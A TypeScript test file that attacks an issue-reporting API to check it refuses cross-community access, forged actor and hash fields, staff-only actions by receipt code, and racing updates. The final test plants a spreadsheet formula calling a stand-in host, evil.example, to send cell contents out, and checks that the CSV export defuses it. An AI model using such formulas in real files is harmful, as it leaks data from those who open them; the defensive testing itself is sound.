import assert from 'node:assert/strict'
import { describe } from 'node:test'
import { nextUlid, png, reportCommand } from '../harness.ts'
import type { Answered } from '../harness.ts'
import { attack } from './arena.ts'
import type { Arena } from './arena.ts'

interface Reported {
  id: string
  receipt: string
}

/** What somebody might try with issues and the codes of their receipts, as reporter or as staff of one community. */
export function issueSteps(arena: Arena): void {
  describe('issues and their codes', () => {
    const { ask, refuses } = arena
    const report = async (gridId: string, changes: object = {}): Promise<Reported> => {
      const body = reportCommand({ place: { by: 'grid', gridId }, ...changes })
      const made = await ask({ path: '/v1/issues', as: 'public', body })
      assert.equal(made.status, 201, JSON.stringify(made.body))
      return made.body
    }
    const upload = async (salt: string) => {
      const { bytes, ref } = png(salt)
      const headers = { 'content-type': 'image/png' }
      await ask({ method: 'PUT', path: `/v1/photos/${ref.sha256}`, as: 'public', body: bytes, headers })
      return ref
    }
    const byCode = ({ id: issueId, receipt }: Reported, changes: object) => ({
      path: '/v1/receipts:step',
      as: 'public' as const,
      body: { id: nextUlid(), receipt, issueId, action: 'note', version: 1, reason: '说明', ...changes },
    })
    const step = (issueId: string, changes: object) => ({
      path: `/v1/issues/${issueId}/transitions`,
      as: 'community' as const,
      body: { id: nextUlid(), issueId, action: 'accept', version: 1, ...changes },
    })
    const reasonOf = ({ body }: Answered): string => body.refusal.reason

    for (const action of ['accept', 'resolve', 'close', 'reject', 'merge', 'dispatch', 'extend', 'climb', 'report']) {
      attack(`by the code of a receipt what only staff may: ${action}`, async () => {
        await refuses(422, 'invalid-body', byCode(await report('micro-1'), { action }))
      })
    }

    attack('the issue of somebody else by the code of one’s own', async () => {
      const [own, other] = [await report('micro-1'), await report('micro-1')]
      await refuses(404, 'unknown-receipt', byCode({ ...own, id: other.id }, {}))
    })

    attack('another reporter’s photo by the code of one’s own', async () => {
      const photo = await upload('of another reporter')
      const [own] = [await report('micro-1'), await report('micro-1', { photos: [photo] })]
      await refuses(404, 'unknown-photo', { path: `/v1/receipts/${own.receipt}/photos/${photo.sha256}`, as: 'public' })
    })

    attack('a step by a code with who took it, when, and whom it is for in the body', async () => {
      const own = await report('micro-1')
      for (const more of [
        { actor: { id: 'head-1', role: 'street' } },
        { at: '2026-01-01T00:00:00Z' },
        { assignee: { role: 'street' } },
        { into: own.id },
      ]) {
        await refuses(422, 'invalid-body', byCode(own, more))
      }
    })

    attack('a rating before anything was done, below one and above five', async () => {
      const own = await report('micro-1')
      assert.equal(reasonOf(await refuses(409, 'refused', byCode(own, { action: 'rate', rating: 1 }))), 'action-not-allowed')
      for (const rating of [0, 6, 1.5, '5']) await refuses(422, 'invalid-body', byCode(own, { action: 'rate', rating }))
    })

    attack('steps at once, all on what was seen', async () => {
      const own = await report('micro-1')
      const answers = await Promise.all([1, 2, 3].map(() => ask(step(own.id, { action: 'accept', version: 1 }))))
      assert.deepEqual(answers.map(({ status }) => status).sort(), [200, 409, 409])
    })

    attack('remarks at once by one code, which rest on nothing, for one place in the history', async () => {
      const own = await report('micro-1')
      const answers = await Promise.all([1, 2, 3].map(() => ask(byCode(own, {}))))
      assert.deepEqual(answers.map(({ status, body }) => [status, body.version]).sort(), [
        [200, 2],
        [200, 3],
        [200, 4],
      ])
    })

    attack('a code of a report that joined an issue, for a step on that issue', async () => {
      const [own, other] = [await report('micro-1'), await report('micro-1')]
      await ask(step(own.id, { action: 'merge', reason: '重复', into: other.id }))
      await refuses(404, 'unknown-receipt', byCode({ ...own, id: other.id }, {}))
    })

    attack('joining an issue that nobody has taken up, told from one that there never was', async () => {
      const hidden = await report('micro-1')
      const joining = (joins: string) => ({
        path: '/v1/issues',
        as: 'public' as const,
        body: reportCommand({ place: { by: 'grid', gridId: 'micro-1' }, joins }),
      })
      const [known, never] = [hidden.id, nextUlid()]
      const answers = [await refuses(409, 'refused', joining(known)), await refuses(409, 'refused', joining(never))]
      const [one, other] = answers.map(({ body }, at) => JSON.stringify(body).replaceAll([known, never][at]!, 'ID'))
      assert.equal(one, other)
    })

    attack('issues like nothing in particular, to be told of all there are', async () => {
      await report('micro-1')
      for (const description of ['的', '....', '%', '____']) {
        const body = { categoryId: 'street-litter', description, place: { by: 'grid', gridId: 'micro-1' } }
        const { status, body: told } = await ask({ path: '/v1/issues:similar', as: 'public', body })
        assert.ok(status === 422 || told.issues.length === 0, JSON.stringify(told))
      }
    })

    attack('merging an issue into another community’s', async () => {
      const [own, other] = [await report('micro-1'), await report('micro-9')]
      const merge = (into: string) => step(own.id, { action: 'merge', reason: '重复', into })
      const answers = [await refuses(409, 'refused', merge(other.id)), await refuses(409, 'refused', merge(nextUlid()))]
      assert.deepEqual(new Set(answers.map(reasonOf)), new Set(['merge-target']))
      assert.ok(!JSON.stringify(answers[0]!.body).includes('submitted'), 'Expected nothing of the other issue')
    })

    attack('dispatching an issue to a post of another community', async () => {
      const own = await report('micro-1')
      const assignee = { role: 'community', gridId: 'south' }
      await ask(step(own.id, {}))
      await refuses(409, 'refused', step(own.id, { action: 'dispatch', version: 2, assignee }))
    })

    attack('writing down by hand what only the clock does', async () => {
      const own = await report('micro-1')
      await refuses(422, 'invalid-body', step(own.id, { action: 'climb' }))
    })

    attack('a step under another’s name, at another time, with a hash of one’s own', async () => {
      const own = await report('micro-1')
      const forged = [
        { actor: { id: 'head-2', role: 'buildingHead' } },
        { at: '2026-01-01T00:00:00Z' },
        { hash: '0'.repeat(64) },
        { seq: 9 },
      ]
      for (const more of forged) await refuses(422, 'invalid-body', step(own.id, more))
    })

    attack('a longer time than any rule gives', async () => {
      const own = await report('micro-1')
      const asked = (amount: number) =>
        step(own.id, { action: 'extend', extension: { amount, unit: 'workingDays' }, reason: '要更久' })
      for (const amount of [-1, 0, 1e9, Number.MAX_SAFE_INTEGER]) {
        const answer = await arena.untouched(() => ask(asked(amount)))
        assert.ok([409, 422].includes(answer.status), `${amount}: ${answer.status}`)
      }
    })

    attack('evidence that nobody has sent', async () => {
      const own = await report('micro-1')
      const evidence = [png('that nobody has sent').ref]
      await ask(step(own.id, {}))
      await ask(step(own.id, { action: 'start', version: 2 }))
      const resolve = step(own.id, { action: 'resolve', version: 3, reason: '已清走', evidence })
      assert.equal(reasonOf(await refuses(409, 'refused', resolve)), 'photo-missing')
    })

    for (const [what, path] of Object.entries({
      'the head of a history': '/head',
      'a photo': `/photos/${'0'.repeat(64)}`,
      'an issue': '',
    })) {
      attack(`${what} of another community, told from one that there is not`, async () => {
        const { id } = await report('micro-9')
        const never = nextUlid()
        const [other, none] = [
          await refuses(404, 'unknown-issue', { path: `/v1/issues/${id}${path}`, as: 'community' }),
          await refuses(404, 'unknown-issue', { path: `/v1/issues/${never}${path}`, as: 'community' }),
        ]
        assert.equal(JSON.stringify(other.body).replaceAll(id, 'ID'), JSON.stringify(none.body).replaceAll(never, 'ID'))
      })
    }

    attack('having another community’s history verified', async () => {
      const { id } = await report('micro-9')
      await refuses(404, 'unknown-issue', { path: `/v1/issues/${id}/verification`, as: 'community', body: {} })
    })

    for (const call of ['head', 'verification']) {
      attack(`the ${call} of all histories as one community`, async () => {
        await refuses(403, 'role-not-allowed', { path: `/v1/issue-histories/${call}`, as: 'community', body: {} })
      })
    }

    attack('a head of histories that never was, to be told that all is well', async () => {
      const { body: head } = await ask({ path: '/v1/issue-histories/head', as: 'auditor', body: {} })
      for (const forged of [
        { ...head, hash: '0'.repeat(64) },
        { ...head, seq: head.seq + 1 },
      ]) {
        const { body } = await ask({ path: '/v1/issue-histories/verification', as: 'auditor', body: { head: forged } })
        assert.equal(body.ok, false, JSON.stringify(body))
      }
    })

    for (const path of ['/v1/issue-board', '/v1/issues.csv', '/v1/issues.xlsx', '/v1/issues.geojson']) {
      attack(`${path} of another community`, async () => {
        for (const grid of ['south', 'root', 'nowhere'])
          await refuses(404, 'unknown-grid', { path: `${path}?grid=${grid}`, as: 'community' })
      })

      attack(`${path} with a public key`, async () => {
        await refuses(403, 'audience-not-allowed', { path, as: 'public' })
      })
    }

    attack('rates of another community, and of a person', async () => {
      const path = '/v1/issue-rates?from=2026-01-01T00:00:00Z&to=2026-12-01T00:00:00Z'
      for (const grid of ['south', 'root', 'nowhere'])
        await refuses(404, 'unknown-grid', { path: `${path}&gridId=${grid}`, as: 'community' })
      for (const query of ['by=person', 'by=handler', 'by=grid&by=category', 'personId=p-1'])
        await refuses(400, 'invalid-query', { path: `${path}&${query}`, as: 'street' })
      await refuses(403, 'audience-not-allowed', { path, as: 'public' })
      await refuses(403, 'role-not-allowed', { path, as: 'liaison' })
    })

    attack('another community’s issues in the file of one’s own', async () => {
      const other = await report('micro-9', { description: '另一社区的事' })
      for (const kind of ['csv', 'geojson']) {
        const { status, body } = await ask({ path: `/v1/issues.${kind}?words=true`, as: 'community' })
        const text = JSON.stringify(body)
        assert.equal(status, 200)
        assert.ok(!text.includes(other.id) && !text.includes('另一社区的事'))
      }
    })

    attack('a formula in what a reporter wrote, for whoever opens the file', async () => {
      const formula = '=HYPERLINK("https://evil.example?"&A1)'
      await report('micro-1', { description: formula, placeText: `@${formula}` })
      const { body } = await ask({ path: '/v1/issues.csv?words=true', as: 'community' })
      const cells = (body as string).split(/\r\n|,/)
      assert.ok((body as string).includes('HYPERLINK'))
      assert.ok(
        cells.every((cell) => !/^"?[=@+\t]/.test(cell)),
        cells.filter((cell) => /^"?[=@+\t]/.test(cell)).join(' | '),
      )
    })
  })
}
